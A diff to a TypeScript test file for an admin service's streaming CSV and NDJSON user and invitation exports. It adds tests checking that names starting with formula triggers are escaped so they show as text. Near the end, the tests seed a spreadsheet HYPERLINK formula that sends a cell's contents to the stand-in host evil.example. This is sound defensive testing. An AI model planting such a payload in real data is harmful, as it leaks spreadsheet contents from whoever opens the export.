@@ -1,6 +1,7 @@
 // The streaming exports over HTTP: the same rows the admin tables' filters keep, as CSV or NDJSON,
 // admins only, bad filters refused with the field named; the table read a page at a time; the
-// hand-written CSV line identical to csv-stringify's.
+// hand-written CSV line identical to csv-stringify's with its formula escaping (a plain phone number
+// aside); a field a spreadsheet would run as a formula neutralised in both exports.
 import {
   EXPORT_COLUMNS,
   exportCsvLine,
@@ -16,7 +17,9 @@ import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { request } from 'undici';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { listUsers, toFlexUser, usersTablePages } from '../src/storage/users.js';
+import { insertInvitations } from '../src/storage/invitations.js';
+import { insertUsers, listUsers, toFlexUser, usersTablePages } from '../src/storage/users.js';
+import { freshPhone } from './helpers/drivers.js';
 import { type RunningGateway, startGateway } from './helpers/gateway.js';
 import { ADMIN, DRIVER, OWNER } from './helpers/people.js';
 
@@ -48,6 +51,17 @@ function users0() {
     status: 'start' as const,
     humanRegion: 'Miami',
   };
+}
+
+/**
+ * CSV as csv-stringify writes it with `escape_formulas` (OWASP's rule), field by field, except a
+ * plain E.164 phone number, which the product leaves readable (docs/architecture.md, "CSV files").
+ */
+function csvOf(records: Record<string, string>[], header = true): string {
+  const field = (value: string) =>
+    stringify([[value]], { escape_formulas: !/^\+\d{1,15}$/.test(value) }).slice(0, -1);
+  const lines = records.map((r) => `${EXPORT_COLUMNS.map((c) => field(r[c] ?? '')).join(',')}\n`);
+  return (header ? `${EXPORT_COLUMNS.join(',')}\n` : '') + lines.join('');
 }
 
 async function table() {
@@ -84,12 +98,7 @@ describe('GET /api/admin/v1/users-export', () => {
     const first = exportRow(expected[0]!, TZ);
     expect(lines[1]).toContain(first.phone);
     // Byte for byte what csv-stringify writes for the table's own rows, in the table's order.
-    expect(answer.text).toBe(
-      stringify(
-        expected.map((row) => exportRow(row, TZ)),
-        { header: true, columns: [...EXPORT_COLUMNS] },
-      ),
-    );
+    expect(answer.text).toBe(csvOf(expected.map((row) => exportRow(row, TZ))));
   });
 
   it('reads the table a page at a time, every row once, in the table order', async () => {
@@ -124,12 +133,7 @@ describe('GET /api/admin/v1/users-export', () => {
       api.as(ADMIN),
     );
     expect(csv.status).toBe(200);
-    expect(csv.text).toBe(
-      stringify(
-        unregistered.map((row) => exportRow(row, TZ)),
-        { header: true, columns: [...EXPORT_COLUMNS] },
-      ),
-    );
+    expect(csv.text).toBe(csvOf(unregistered.map((row) => exportRow(row, TZ))));
     const registered = merged.filter((row) => !row.unregistered);
     const name = registered[0]!.name;
     const ndjson = await get(
@@ -144,8 +148,25 @@ describe('GET /api/admin/v1/users-export', () => {
     expect((await get('/api/admin/v1/invitations-export', api.as(DRIVER))).status).toBe(403);
   });
 
-  it('writes each CSV line exactly as csv-stringify does, whatever the text', () => {
-    const text = fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', ' ', 'é', '😀') });
+  it('writes each CSV line exactly as csv-stringify does with formulas escaped, whatever the text', () => {
+    const text = fc.string({
+      unit: fc.constantFrom(
+        'a',
+        '1',
+        ',',
+        '"',
+        '\n',
+        '\r',
+        ' ',
+        'é',
+        '😀',
+        '=',
+        '+',
+        '-',
+        '@',
+        '\t',
+      ),
+    });
     fc.assert(
       fc.property(
         text,
@@ -154,9 +175,7 @@ describe('GET /api/admin/v1/users-export', () => {
         fc.option(text, { nil: null }),
         (name, phone, referral, region) => {
           const row = { ...users0(), name, phoneNumber: phone, referral, humanRegion: region };
-          expect(exportCsvLine(row, TZ)).toBe(
-            stringify([exportRow(row, TZ)], { columns: [...EXPORT_COLUMNS] }),
-          );
+          expect(exportCsvLine(row, TZ)).toBe(csvOf([exportRow(row, TZ)], false));
         },
       ),
     );
@@ -194,4 +213,48 @@ describe('GET /api/admin/v1/users-export', () => {
     expect(answer.status).toBe(400);
     expect(JSON.parse(answer.text)).toMatchObject({ code: 'validation', field: 'startDate' });
   });
+});
+
+describe('formula injection in the exports', () => {
+  const ATTACK = 'HYPERLINK("http://evil.example/?d="&A1,"Open")';
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+
+  /** A Flex driver named `trigger + ATTACK`, invited by phone; the CSV field their name becomes. */
+  async function attacker(trigger: string) {
+    const phone = freshPhone();
+    const name = `${trigger}${ATTACK}`;
+    await insertUsers(api.gateway.db, [{ product: 'flex', phone_number: phone, name }]);
+    await insertInvitations(api.gateway.db, [
+      { phoneNumber: phone, dateInvitedTimestamp: Date.now(), freeWeek: false, referralCode: null },
+    ]);
+    // Quoted for its quotes and comma; inside, the apostrophe first: a spreadsheet shows text.
+    return { phone, field: `"'${name.replaceAll('"', '""')}",${phone},` };
+  }
+
+  it.each(TRIGGERS)('writes a name starting with %j as text in the users export', async (t) => {
+    const { phone, field } = await attacker(t);
+    const answer = await get(
+      `/api/admin/v1/users-export?product=flex&search=${phone.slice(2)}`,
+      api.as(ADMIN),
+    );
+    expect(answer.status).toBe(200);
+    const [, line, ...rest] = answer.text.split('\n');
+    expect(rest).toEqual(['']);
+    expect(line!.startsWith(field)).toBe(true);
+  });
+
+  it.each(TRIGGERS)(
+    'writes a name starting with %j as text in the invitations export',
+    async (t) => {
+      const { phone, field } = await attacker(t);
+      const answer = await get(
+        `/api/admin/v1/invitations-export?search=${phone.slice(2)}`,
+        api.as(ADMIN),
+      );
+      expect(answer.status).toBe(200);
+      const [, line, ...rest] = answer.text.split('\n');
+      expect(rest).toEqual(['']);
+      expect(line!.startsWith(field)).toBe(true);
+    },
+  );
 });
